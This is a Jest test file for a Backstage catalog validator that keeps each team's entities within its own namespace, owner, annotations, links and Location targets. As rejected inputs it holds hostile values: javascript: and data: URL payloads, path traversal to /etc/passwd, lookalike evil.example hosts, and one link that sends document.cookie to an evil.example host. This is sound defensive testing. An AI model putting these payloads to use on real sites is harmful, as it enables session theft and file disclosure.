import * as fs from 'fs';
import * as path from 'path';
import { parse, stringify } from 'yaml';
import { Org, type ManifestObject, checkCatalog, validateObjects } from '../../../lib';
import { appDashboardUid, catalogSourcesOf, checkCatalogOwnership, isHttpUrl, repositoryWebPrefix } from '../../../lib/validate/catalog-ownership';
import { tenantsOf } from '../../../lib/validate/tenants';
import { monitoringAnnotations } from '../../../lib/monitoring/app-monitoring';
import { teamAppsApplicationName } from '../../../lib/portal/catalog';
import { loadManifests } from '../../../lib/validate/manifests';
import { ORG_PROPS } from '../../util';
import { ROOT, cleanTmpDirs, paved, tmpDir } from '../../cli-util';

afterAll(cleanTmpDirs);

/** The org of the tests: payments keeps its apps here, search in its own repository. */
const org = new Org({ ...ORG_PROPS, teams: [ORG_PROPS.teams[0], { ...ORG_PROPS.teams[1], appsRepository: 'https://github.com/example/search-apps.git' }] });
const teams = tenantsOf(org);

const FILE = 'catalog/teams/search/apps/indexer/component-indexer.yaml';
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- an entity edited as a team could, field by field
type Editable = { metadata: Record<string, any>; spec: Record<string, any> };
const app: ManifestObject = {
  file: 'prod/teams/search/apps/indexer/application-indexer.yaml',
  object: { apiVersion: 'core.oam.dev/v1beta1', kind: 'Application', metadata: { name: 'indexer', namespace: 'search' }, spec: { components: [] } },
};

/** Search's indexer as the platform generates it (lib/portal/catalog.ts), with `edit` applied. */
function component(edit: (c: Editable) => void = () => undefined, file = FILE): ManifestObject {
  const c = {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'Component',
    metadata: {
      name: 'indexer',
      namespace: 'search',
      description: 'Indexes.',
      links: [{ url: 'https://indexer.search.example.com', title: 'indexer (prod)', icon: 'web' }],
      annotations: {
        'backstage.io/source-location': 'url:https://github.com/example/search-apps/tree/HEAD/',
        'backstage.io/kubernetes-namespace': 'search',
        'backstage.io/kubernetes-label-selector': 'app.oam.dev/name=indexer',
        'argocd/app-name': 'team-search-apps',
        'paved.dev/kubevela-application': 'search/indexer',
        'paved.dev/environments': 'staging,prod',
        ...monitoringAnnotations('search', 'indexer'),
      },
    },
    spec: { type: 'service', lifecycle: 'production', owner: 'group:default/search', system: 'system:default/search', dependsOn: ['resource:search/indexer-db', 'component:payments/checkout'] },
  };
  edit(c);
  return { file, object: c };
}
const entity = (file: string, kind: string, metadata: Record<string, unknown>, spec: Record<string, unknown>): ManifestObject => ({
  file,
  object: { apiVersion: 'backstage.io/v1alpha1', kind, metadata: { namespace: 'search', ...metadata }, spec },
});

/** `<field>: <message>` of each finding. */
const check = (entities: ManifestObject[], withOrg = true) => checkCatalogOwnership(entities, [app], withOrg ? teams : undefined).map((f) => `${f.field}: ${f.message}`);

describe('what the platform generates', () => {
  test('an app entity as the platform generates it is the team’s own, with and without the org', () => {
    expect(check([component()])).toEqual([]);
    expect(check([component()], false)).toEqual([]);
  });

  test('the example tree’s catalog, read with its org, is every team’s own', () => {
    const { objects } = loadManifests(path.join(ROOT, 'gitops'));
    const exampleOrg = Org.fromFile(path.join(ROOT, 'gitops', 'org.json'));
    const entities = objects.filter((m) => String(m.object.apiVersion).startsWith('backstage.io/') && m.file.includes('/apps/'));
    expect(entities.length).toBeGreaterThan(5);
    expect(checkCatalogOwnership(entities, objects, tenantsOf(exampleOrg))).toEqual([]);
  });

  test('the check computes the dashboard uid and Argo CD Application names as the monitoring and the portal do', () => {
    for (const [team, name] of [
      ['search', 'indexer'],
      ['payments', 'a-very-long-application-name-for-the-uid'],
    ]) {
      expect(appDashboardUid(team, name)).toBe(monitoringAnnotations(team, name)['paved.dev/dashboard-uid']);
    }
    expect(teamAppsApplicationName('search')).toBe('team-search-apps');
  });

  test('repositories are read in their clone forms', () => {
    expect(repositoryWebPrefix('https://github.com/Example/Platform.git')).toBe('https://github.com/example/platform/');
    expect(repositoryWebPrefix('git@gitlab.example.com:group/sub/apps.git')).toBe('https://gitlab.example.com/group/sub/apps/');
    expect(repositoryWebPrefix('ssh://git@github.com/example/x.git')).toBe('https://github.com/example/x/');
    expect(repositoryWebPrefix('not a url')).toBeUndefined();
    expect(catalogSourcesOf('https://github.com/example/platform.git', undefined).code).toContain('https://github.com/example/');
  });
});

describe('refuses what reaches another team', () => {
  test('refuses another namespace, another owner, another system, naming the field and what is allowed', () => {
    expect(
      check([
        component((c) => {
          c.metadata.namespace = 'payments';
          c.spec.owner = 'group:default/payments';
          c.spec.system = 'payments';
        }),
      ]),
    ).toEqual([
      'metadata.namespace: "payments" is not allowed in catalog/teams/search/apps/: "search", team search\'s Backstage namespace',
      'spec.owner: "group:default/payments" is not allowed in catalog/teams/search/apps/: "group:default/search", team search\'s group',
      'spec.system: "payments" is not allowed in catalog/teams/search/apps/: "system:default/search", team search\'s system',
    ]);
  });

  test('refuses an entity without a namespace (Backstage’s default) and owners written as Backstage would resolve them elsewhere', () => {
    for (const [owner, ok] of [
      ['group:default/search', true],
      ['Group:Default/Search', true],
      ['search', false], // group:<the entity's namespace>/search, not the team's group
      ['user:default/search', false],
      ['group:search/search', false],
      ['group:default/search-admins', false],
    ] as const) {
      expect({ owner, ok: check([component((c) => (c.spec.owner = owner))]).length === 0 }).toEqual({ owner, ok });
    }
    expect(check([component((c) => delete c.metadata.namespace)])[0]).toMatch(/^metadata.namespace: none \(Backstage reads "default"\) is not allowed/);
  });

  test('refuses relations that make it part of, provider of or dependency of another team’s entities; calls stay allowed', () => {
    const found = check([
      component((c) => {
        c.spec.providesApis = ['api:payments/checkout', 'search-api'];
        c.spec.subcomponentOf = 'component:payments/checkout';
        c.spec.dependsOn = ['resource:payments/checkout-db', 'component:payments/checkout', 'api:search/x'];
      }),
      entity('catalog/teams/search/apps/indexer/resource-db.yaml', 'Resource', { name: 'db' }, { type: 'database', owner: 'group:default/search', dependencyOf: ['component:payments/checkout'] }),
    ]);
    expect(found).toEqual([
      'spec.subcomponentOf: "component:payments/checkout" is not allowed: an entity of team search\'s own namespace "search" (an entity may be part of, provide or be a dependency of only its own team\'s)',
      'spec.providesApis[0]: "api:payments/checkout" is not allowed: an entity of team search\'s own namespace "search" (an entity may be part of, provide or be a dependency of only its own team\'s)',
      'spec.dependsOn[0]: "resource:payments/checkout-db" is not allowed: an entity of team search\'s own namespace, or another team\'s component the app calls',
      'spec.dependencyOf[0]: "component:payments/checkout" is not allowed: an entity of team search\'s own namespace "search" (an entity may be part of, provide or be a dependency of only its own team\'s)',
    ]);
  });

  test('refuses kinds a team does not write: Groups, Users, Systems, Templates, unknown kinds', () => {
    for (const kind of ['Group', 'User', 'System', 'Domain', 'Template']) {
      const found = check([entity(`catalog/teams/search/apps/x/${kind}.yaml`, kind, { name: 'x' }, {})]);
      expect(found).toHaveLength(1);
      expect(found[0]).toMatch(/^kind: "backstage.io\/v1alpha1\/\w+" is not allowed in catalog\/teams\/search\/apps\/: a backstage.io\/v1alpha1 Component, Resource, API, Location/);
    }
    const scaffolder = {
      file: 'catalog/teams/search/apps/t.yaml',
      object: { apiVersion: 'scaffolder.backstage.io/v1beta3', kind: 'Template', metadata: { name: 't', namespace: 'search' }, spec: {} },
    };
    expect(check([scaffolder])[0]).toMatch(/^kind: "scaffolder.backstage.io\/v1beta3\/Template" is not allowed/);
  });

  test('refuses a folder of a team the org does not have', () => {
    expect(check([component(undefined, 'catalog/teams/ghost/apps/indexer/component-indexer.yaml')])).toEqual([': catalog/teams/ghost/apps/ belongs to no team of the org (payments, search)']);
  });
});

describe('annotations name only the team’s own objects', () => {
  const annotated = (key: string, value: unknown) => check([component((c) => (c.metadata.annotations[key] = value))]);

  test.each([
    ['backstage.io/kubernetes-label-selector', 'app.oam.dev/name=checkout', '"app.oam.dev/name=indexer": the Component indexer\'s own'],
    ['backstage.io/kubernetes-label-selector', 'paved.dev/team=payments', '"app.oam.dev/name=indexer": the Component indexer\'s own'],
    ['backstage.io/kubernetes-namespace', 'payments', "one of team search's namespaces (search)"],
    ['backstage.io/kubernetes-namespace', 'kube-system', "one of team search's namespaces (search)"],
    ['paved.dev/kubevela-application', 'payments/indexer', `"<namespace>/indexer", the Component's own KubeVela Application in one of team search's namespaces (search)`],
    ['paved.dev/kubevela-application', 'search/checkout', `"<namespace>/indexer", the Component's own KubeVela Application in one of team search's namespaces (search)`],
    ['argocd/app-name', 'team-payments-apps', '"team-search-apps": the Argo CD Application of team search\'s apps'],
    ['argocd/app-name', 'platform-config', '"team-search-apps": the Argo CD Application of team search\'s apps'],
    ['paved.dev/dashboard-uid', 'paved-payments-checkout', '"paved-search-indexer": the Component indexer\'s own'],
    ['grafana/dashboard-selector', "tags @> 'paved-app-payments-checkout'", "\"tags @> 'paved-app-search-indexer'\": the Component indexer's own"],
    ['grafana/alert-label-selector', 'team=payments', '"team=search,app=indexer": the Component indexer\'s own'],
    ['paved.dev/environments', 'prod,<b>', 'environment names separated by ","'],
  ])('refuses %s = %s', (key, value, allowed) => {
    expect(annotated(key, value)).toEqual([`metadata.annotations.${key}: ${JSON.stringify(value)} is not allowed: ${allowed}`]);
  });

  test.each([
    ['url:https://github.com/example/payments-secret-repo/tree/main/', true], // a repository of the org's owner: an app's own code may live there
    ['url:https://github.com/other-org/search/tree/HEAD/', false],
    ['url:https://github.com.evil.example/example/search-apps/', false],
    ['url:https://github.com@evil.example/example/search-apps/', false],
    ['url:https://github.com/example/search-apps/../../other-org/x/', false],
    ['url:javascript:alert(1)', false],
    ['url:file:///etc/passwd', false],
    ['file:/etc/passwd', false],
    ['https://github.com/example/search-apps/', false],
  ])('backstage.io/source-location %s is allowed: %s', (value, ok) => {
    expect(annotated('backstage.io/source-location', value).length === 0).toBe(ok);
  });

  test('paved.dev/definition-location stays in the team’s or the platform’s repository', () => {
    expect(annotated('paved.dev/definition-location', 'url:https://github.com/example/search-apps/tree/HEAD/')).toEqual([]);
    expect(annotated('paved.dev/definition-location', 'url:https://github.com/example/platform/tree/main/apps/search/')).toEqual([]);
    expect(annotated('paved.dev/definition-location', 'url:https://github.com/example/payments-apps/tree/HEAD/')).toEqual([
      'metadata.annotations.paved.dev/definition-location: "url:https://github.com/example/payments-apps/tree/HEAD/" is not allowed: "url:" and a URL of team search\'s or the platform\'s repository: below https://github.com/example/search-apps/ or https://github.com/example/platform/',
    ]);
  });

  test('refuses annotations the platform does not generate, Backstage’s own location annotations and TechDocs among them', () => {
    for (const key of ['backstage.io/managed-by-location', 'backstage.io/managed-by-origin-location', 'backstage.io/techdocs-ref', 'backstage.io/kubernetes-id', 'github.com/project-slug']) {
      expect(annotated(key, 'url:https://github.com/example/platform/')).toEqual([
        `metadata.annotations.${key}: is not allowed on a team's Component: the platform generates only backstage.io/source-location, paved.dev/definition-location, backstage.io/kubernetes-namespace, backstage.io/kubernetes-label-selector, argocd/app-name, paved.dev/kubevela-application, paved.dev/environments, paved.dev/versions, paved.dev/single-instance-reason, grafana/dashboard-selector, grafana/alert-label-selector, paved.dev/dashboard-uid`,
      ]);
    }
    expect(annotated('x\u001b[2J', 'v')[0]).toMatch(/^metadata\.annotations\["x\\u001b\[2J"\]: is not allowed/);
  });

  test('a Resource names only its own claim, in the team’s namespace', () => {
    const resource = (claim: string) =>
      check([
        entity(
          'catalog/teams/search/apps/indexer/resource-indexer-db.yaml',
          'Resource',
          { name: 'indexer-db', annotations: { 'paved.dev/crossplane-claim': claim } },
          { type: 'database', owner: 'group:default/search' },
        ),
      ]);
    expect(resource('db.example.com/v1alpha1/PostgreSQLInstance search/indexer-db')).toEqual([]);
    expect(resource('db.example.com/v1alpha1/PostgreSQLInstance payments/indexer-db')).toHaveLength(1);
    expect(resource('db.example.com/v1alpha1/PostgreSQLInstance search/checkout-db')).toHaveLength(1);
    expect(resource('search/indexer-db')).toHaveLength(1);
  });
});

describe('links, placeholders and Locations', () => {
  test.each([
    ['https://grafana.example.com/d/x', true],
    ['http://wiki.example.com/a?b=c#d', true],
    ['javascript:alert(document.cookie)', false],
    ['JavaScript:alert(1)', false],
    [' javascript:alert(1)', false],
    ['java\nscript:alert(1)', false],
    ['data:text/html;base64,PHNjcmlwdD4=', false],
    ['vbscript:msgbox', false],
    ['//evil.example/x', false],
    ['https://example.com/a b', false],
    ['https:\\\\evil.example', false],
    ['/relative/path', false],
  ])('a link to %j is allowed: %s', (url, ok) => {
    expect(isHttpUrl(url)).toBe(ok);
    const found = check([component((c) => (c.metadata.links = [{ url, title: 'x' }]))]);
    expect(found.length === 0).toBe(ok);
    if (!ok) expect(found[0]).toMatch(/^metadata\.links\[0\]\.url: .* is not allowed: an absolute http\(s\) URL/);
  });

  test('refuses placeholders Backstage would resolve by reading a URL with its own credentials', () => {
    const api = (definition: unknown) =>
      check([entity('catalog/teams/search/apps/indexer/api-search.yaml', 'API', { name: 'search' }, { type: 'openapi', lifecycle: 'production', owner: 'group:default/search', definition })]);
    expect(api('openapi: 3.0.0')).toEqual([]);
    expect(api({ $text: 'https://github.com/example/payments-secret-repo/blob/main/keys.txt' })).toEqual([
      "spec.definition.$text: is not allowed: Backstage would replace it with what it reads from a URL, with the catalog's own credentials; write the value itself",
    ]);
    expect(check([component((c) => (c.metadata.description = { $yaml: './x.yaml' }))])[0]).toMatch(/^metadata\.description\.\$yaml: is not allowed/);
    expect(check([component((c) => (c.spec.x = [{ a: { $json: 'https://x' } }]))])[0]).toMatch(/^spec\.x\[0\]\.a\.\$json: is not allowed/);
  });

  test.each([
    ['./indexer/component-indexer.yaml', true],
    ['indexer/component-indexer.yaml', true],
    ['./*/component-*.yaml', true],
    ['./indexer/../indexer/component-indexer.yaml', true],
    ['../group-search.yaml', false],
    ['./../../payments/apps/checkout/component-checkout.yaml', false],
    ['https://github.com/other-org/repo/blob/main/catalog-info.yaml', false],
    ['/etc/passwd', false],
    ['//evil.example/x.yaml', false],
    ['./%2e%2e/%2e%2e/payments/apps/x.yaml', false],
    ['.\\..\\..\\payments\\x.yaml', false],
    ['./x.yaml?ref=other', false],
  ])('a team Location’s target %j is allowed: %s', (target, ok) => {
    const found = check([entity('catalog/teams/search/apps/location.yaml', 'Location', { name: 'search-apps' }, { targets: [target] })]);
    expect(found.length === 0).toBe(ok);
    if (!ok)
      expect(found).toEqual([
        `spec.targets[0]: ${JSON.stringify(target)} is not allowed: a relative path to a file in catalog/teams/search/apps/ (no URL, no absolute path, no ".." out of the folder)`,
      ]);
  });

  test('refuses a Location read from the Backstage host’s disk, and a single target out of the folder', () => {
    expect(check([entity('catalog/teams/search/apps/location.yaml', 'Location', { name: 'l' }, { type: 'file', target: '../../../../etc' })])).toEqual([
      'spec.type: "file" is not allowed: none, or "url" (the team\'s Location is read where it is; "file" would read the Backstage host\'s disk)',
      'spec.target: "../../../../etc" is not allowed: a relative path to a file in catalog/teams/search/apps/ (no URL, no absolute path, no ".." out of the folder)',
    ]);
  });
});

describe('in paved validate', () => {
  test('validateObjects and checkCatalog refuse a team’s entity in another team’s namespace, with the org’s boundary', () => {
    const hostile = component((c) => (c.metadata.namespace = 'payments'));
    expect(checkCatalog([hostile], [app], teams).findings.map((f) => f.field)).toContain('metadata.namespace');
    const report = validateObjects([hostile, app], { tenants: teams });
    expect(report.findings.filter((f) => f.rule === 'tenant').map((f) => `${f.file}: ${f.object}: ${f.field}`)).toEqual([`${FILE}: Component payments/indexer: metadata.namespace`]);
  });

  test('refuses a hostile team proposal in the example tree, naming each file and field, exit 1', () => {
    const dir = tmpDir('paved-catalog-ownership-');
    fs.cpSync(path.join(ROOT, 'gitops'), dir, { recursive: true });
    const file = 'catalog/teams/mobile/apps/mobile-bff/component-mobile-bff.yaml';
    const text = fs.readFileSync(path.join(dir, file), 'utf8');
    const c = parse(text) as Editable;
    c.metadata.annotations['backstage.io/kubernetes-namespace'] = 'payments';
    c.metadata.links.push({ url: 'javascript:fetch(`//evil.example/`+document.cookie)', title: 'Runbook' });
    c.spec.owner = 'group:default/payments';
    fs.writeFileSync(path.join(dir, file), stringify(c));
    const location = 'catalog/teams/mobile/apps/location.yaml';
    const l = parse(fs.readFileSync(path.join(dir, location), 'utf8')) as { spec: { targets: string[] } };
    l.spec.targets.push('https://github.com/other-org/secrets/blob/main/catalog-info.yaml');
    fs.writeFileSync(path.join(dir, location), stringify(l));

    const r = paved(['validate', dir]);
    expect(r.code).toBe(1);
    const errors = r.stdout.split('\n').filter((l) => l.startsWith('error [tenant] catalog/'));
    expect(errors.map((e) => e.replace(/: (".*?"|is not allowed).*$/, ''))).toEqual([
      `error [tenant] ${location}: Location mobile/mobile-apps: spec.targets[1]`,
      `error [tenant] ${file}: Component mobile/mobile-bff: metadata.annotations.backstage.io/kubernetes-namespace`,
      `error [tenant] ${file}: Component mobile/mobile-bff: metadata.links[2].url`,
      `error [tenant] ${file}: Component mobile/mobile-bff: spec.owner`,
    ]);
  });
});
